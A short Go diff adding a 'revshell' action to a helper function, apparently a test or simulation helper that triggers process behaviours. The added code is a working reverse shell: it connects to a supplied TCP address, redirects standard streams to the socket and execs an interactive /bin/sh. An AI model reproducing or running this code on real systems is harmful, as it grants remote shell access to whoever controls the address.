@@ -40,6 +40,22 @@ func runHelper(action string, args []string) error {
 			return err
 		}
 		return syscall.Exec("/bin/sleep", []string{"sleep", "0.3"}, os.Environ())
+	case "revshell":
+		// connect, put the socket on stdin/stdout/stderr, exec a shell
+		conn, err := net.Dial("tcp4", args[0])
+		if err != nil {
+			return err
+		}
+		f, err := conn.(*net.TCPConn).File()
+		if err != nil {
+			return err
+		}
+		for fd := 0; fd <= 2; fd++ {
+			if err := unix.Dup2(int(f.Fd()), fd); err != nil {
+				return err
+			}
+		}
+		return syscall.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())
 	case "storm":
 		n, _ := strconv.Atoi(args[0])
 		for i := 0; i < n; i++ {
